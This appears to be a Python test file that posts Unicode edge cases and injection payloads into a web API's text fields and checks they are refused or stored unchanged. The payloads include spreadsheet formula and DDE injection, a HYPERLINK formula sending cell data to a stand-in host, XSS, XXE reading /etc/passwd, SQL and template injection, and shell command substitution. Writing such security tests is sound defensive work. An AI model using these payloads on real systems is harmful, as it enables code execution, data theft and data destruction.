"""I2 and I8: text of all kinds in every text field. It is refused, or stored unchanged."""

from __future__ import annotations

import json
from collections.abc import Iterator
from typing import Any

from tests.webapp.corpus.cases import API, JSON, Case, Send, Stage
from tests.webapp.documents import office

CONTROLS = tuple(chr(code) for code in (*range(32), 0x7F, 0x85, 0x9B))
TEXTS = (
    *(f"a{control}b" for control in CONTROLS),
    *(
        "café",
        "cafe\u0301",
        "pаypal",
        "ｆｕｌｌ",
        "👩‍👩‍👧‍👦",
        "🇩🇪",
        "a\u202eb",
        "a\u2066b\u2069",
        "a\u200bb",
        "a\u200db",
        "\ufeffa",
    ),
    *(
        "a" + "\u0301" * 5000,
        "x" * 200,
        "x" * 201,
        "x" * 12_800,
        "x" * 65_536,
        "日本" * 100,
        "שלום",
        "مرحبا",
        "ไทย",
        "\u2028",
        "\u2029",
    ),
    *(
        "",
        " ",
        "  a  ",
        "\u00a0",
        "\u3000",
        "\ufffe",
        "\uffff",
        "\U0010ffff",
        "\ue000",
        "ǅ",
        "ß",
        "İ",
        "ﬀ",
        "½",
        "null",
        "true",
    ),
)
LONE = ("\\ud800", "a\\udfffb", "\\udc00\\ud800", "\\u0000")
"""As JSON spells them; no program can hold them."""

STARTS = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "|", "%")
FORMULAS = (
    *(f"{start}1+1" for start in STARTS),
    *(f" {start}1+1" for start in STARTS[:4]),
    *(f'"{start}1+1"' for start in STARTS[:4]),
    *(f";{start}1+1" for start in STARTS[:4]),
    '=HYPERLINK("http://example.com/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=IMPORTXML("http://example.com/","//a")',
    '=DDE("cmd";"/C calc";"x")',
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<!--#exec cmd="ls"-->',
    "<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>",
    "javascript:alert(1)",
    "[click](javascript:alert(1))",
    "![x](http://example.com/x.png)",
    "{{7*7}}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{% include '/etc/passwd' %}",
    "%n%n%s%x",
    "'; DROP TABLE projects; --",
    "' OR '1'='1",
    "\\'; \\\"",
    "$(id)",
    "`id`",
    '#let x = read("/etc/passwd")',
    '#image("/etc/passwd")',
    "../../etc/passwd",
)
"""Text that some program would execute if not escaped."""


def text_cases() -> Iterator[Case]:
    """Text in the name of a project and of a scenario, in a key's name and in notes."""
    for text in TEXTS:
        yield from _in_every_field(text)
    for spelled in LONE:
        body = f'{{"name": "{spelled}"}}'
        yield Case(f"project {spelled}", _posted("projects", body), (422,))


def formula_cases() -> Iterator[Case]:
    """The same for what would be a command; all of it is text, and taken."""
    for text in FORMULAS:
        for case in _in_every_field(text):
            yield Case(case.name, case.send, (201,), case.kept)


def _in_every_field(text: str) -> Iterator[Case]:
    shown = json.dumps(text)[:40]
    either = (201, 422)
    yield Case(f"project {shown}", _posted("projects", json.dumps({"name": text})), either, ("name", text))
    key = json.dumps({"name": text, "scopes": ["read"]})
    yield Case(f"key {shown}", _posted("api-keys", key), either, ("name", text))
    for field in ("name", "notes"):
        document = json.dumps(office(**{field: text}))
        kept = (f"scenario.{field}", text)
        yield Case(f"scenario {field} {shown}", _scenario(document), either, kept)


def _posted(where: str, body: str) -> Send:
    return lambda stage: stage.client.post(f"{API}/{where}", content=body.encode(), headers=JSON)


def _scenario(body: str) -> Send:
    def send(stage: Stage) -> Any:
        return stage.client.post(f"{API}/projects/{stage.project_id}/scenarios", content=body.encode(), headers=JSON)

    return send
